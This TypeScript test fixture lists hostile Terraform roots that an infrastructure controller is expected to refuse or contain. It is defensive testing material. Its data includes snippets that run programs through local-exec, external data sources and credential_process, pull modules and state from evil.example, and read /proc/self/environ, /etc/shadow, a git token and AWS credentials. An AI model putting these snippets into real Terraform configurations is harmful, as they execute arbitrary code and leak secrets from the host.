import type { TreeEntry } from '../../../support/repository.ts'
import { rootWithProvider } from './prowler.ts'

/** The folder of the root in the repository. */
export const HOSTILE_ROOT = 'infra/app'

/** A root that somebody merged who is after more than they may have. */
export interface HostileRoot {
  readonly what: string
  /** Files beside `main.tf`, which holds the backend; by their path from the root's folder. */
  readonly files: Readonly<Record<string, TreeEntry>>
  /** The condition's reason. */
  readonly reason: 'RootRefused' | 'TerraformPlanFailed'
  /** What the condition says; of no other root of the list. */
  readonly says: string
}

/** The backend that the environment says. */
export const BACKEND = 'terraform {\n  backend "local" {}\n}\n'

/** What the controller refuses from the files alone. */
export const refusedRoots = (): readonly HostileRoot[] => [
  refused('a local-exec', 'local-exec.tf', {
    text: 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "env"\n  }\n}\n',
    says: 'terraform_data.x has a provisioner, which runs programs; expected none',
  }),
  refused('an external data source', 'external.tf', {
    text: 'data "external" "x" {\n  program = ["env"]\n}\n',
    says: 'data.external.x runs a program; expected none',
  }),
  refused('a module from the web', 'web-module.tf', {
    text: 'module "x" {\n  source = "https://evil.example/x.zip"\n}\n',
    says: 'module x comes from a place that is not listed; expected a folder of the repository, or a source that spec.terraform.modules lists',
  }),
  refused('a module from outside of the repository', 'outer-module.tf', {
    text: 'module "x" {\n  source = "../../../../etc"\n}\n',
    says: 'the source of module x leaves the repository; expected a folder of it',
  }),
  refused('another backend', 'backend.tf', {
    text: 'terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n',
    says: 'backend http is not allowed; expected local',
  }),
  refused('a state that is kept by somebody else', 'cloud.tf', {
    text: 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n',
    says: 'terraform.cloud keeps the state elsewhere; expected a backend',
  }),
  refused('a profile that runs a program', 'profile.tf', {
    text: 'provider "aws" {\n  shared_config_files = ["aws.conf"]\n  profile             = "x"\n}\n',
    says: 'provider aws sets profile; expected none: Steersman says as whom and where Terraform acts',
  }),
  refused('the environment of Terraform as a file', 'self.tf', {
    text: 'output "x" {\n  value = file("/proc/self/environ")\n}\n',
    says: "file() may read what is not the root's own; expected a path below ${path.module} that stands there in full",
  }),
  refused('the environment of the controller as a file whose path is computed', 'parent.tf', {
    text: 'variable "pid" {\n  default = 1\n}\noutput "x" {\n  value = file("/proc/${var.pid}/environ")\n}\n',
    says: "file() may read what is not the root's own",
  }),
  refused('a template that reads files', 'template.tf', {
    text: 'output "x" {\n  value = templatefile("${path.module}/x.tftpl", {})\n}\n',
    files: { 'x.tftpl': '${file("/etc/shadow")}' },
    from: 'x.tftpl',
    says: "file() may read what is not the root's own",
  }),
  refused('a provider that is not allowed', 'provider.tf', {
    text: 'terraform {\n  required_providers {\n    evil = { source = "evil/evil" }\n  }\n}\n',
    says: 'provider evil (evil/evil) is not allowed; expected one that spec.terraform.providers lists: hashicorp/aws',
  }),
  refused('a symlink out of the tree', 'link.tf', {
    text: { mode: '120000', content: '/proc/self/environ' },
    says: 'a symlink may lead out of the tree; expected the file itself',
  }),
  refused('a provider that lies ready in .terraform', '.terraform/providers/x', {
    text: '#!/bin/sh\nenv\n',
    says: 'the folders .terraform and terraform.d would choose providers, modules and backend; expected none in the repository',
  }),
  refused('a state in the repository', 'terraform.tfstate', {
    text: '{}',
    says: 'a state in the repository would be taken for the environment’s; expected none',
  }),
  refused('the same in JSON', 'json.tf.json', {
    text: '{"data":{"external":{"x":{"program":["env"]}}}}',
    says: 'JSON syntax is not supported yet; expected HCL',
  }),
  refused('the state of somebody else', 'remote.tf', {
    text: 'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address = "https://evil.example"\n  }\n}\n',
    says: 'data.terraform_remote_state.x reads another kind of backend; expected local',
  }),
]

/** What no look at files can tell from an honest root: it runs code, with nothing to steal. */
export const startedRoots = (): readonly HostileRoot[] => [
  {
    what: 'a provider that is allowed, and prowls',
    files: { 'prowler.tf': rootWithProvider('prowler') },
    reason: 'TerraformPlanFailed',
    says: 'acme/prowler',
  },
  {
    what: 'a provider that is allowed, and repeats the keys that it was given',
    files: { 'teller.tf': rootWithProvider('teller') },
    reason: 'TerraformPlanFailed',
    says: 'acme/teller',
  },
]

/** A root that Terraform is given although the controller would have refused it. */
export interface SlippedRoot {
  readonly what: string
  /** `PROGRAM`, `PID` and `HOME` stand for a program that prowls, and for process and home of the controller. */
  readonly files: Readonly<Record<string, string>>
  /** Whether the program runs at all. */
  readonly runs: boolean
}

/** What is left when the look at the files is gone round: the process that Terraform runs in. */
export const slippedRoots = (): readonly SlippedRoot[] => [
  {
    what: 'a local-exec',
    files: {
      'x.tf':
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "PROGRAM"\n  }\n}\n',
    },
    runs: true,
  },
  {
    what: 'a profile that runs a program',
    files: {
      'x.tf':
        'provider "aws" {\n  region              = "eu-west-1"\n  shared_config_files = ["aws.conf"]\n  profile             = "x"\n}\ndata "aws_caller_identity" "x" {}\n',
      'aws.conf': '[profile x]\ncredential_process = PROGRAM\n',
    },
    runs: true,
  },
  {
    what: 'files of the controller and of its process',
    files: {
      'x.tf': `output "x" {
  value = [for path in [
    "/proc/PID/environ", "/proc/PID/cmdline", "HOME/git-token", "HOME/.aws/credentials"
  ] : try(file(path), "denied")]
}
output "y" {
  value = try(fileset("HOME", "**"), "denied")
}
`,
    },
    runs: false,
  },
]

/** The files of the commit. */
export const filesOf = ({ files }: HostileRoot): Record<string, TreeEntry> => ({
  [`${HOSTILE_ROOT}/main.tf`]: BACKEND,
  ...Object.fromEntries(Object.entries(files).map(([name, entry]) => [`${HOSTILE_ROOT}/${name}`, entry])),
})

function refused(
  what: string,
  name: string,
  root: {
    readonly text: TreeEntry
    readonly files?: HostileRoot['files']
    /** The file that is to blame, where it is another. */
    readonly from?: string
    readonly says: string
  },
): HostileRoot {
  return {
    what,
    files: { [name]: root.text, ...root.files },
    reason: 'RootRefused',
    says: `${HOSTILE_ROOT}/${root.from ?? name}: ${root.says}`,
  }
}
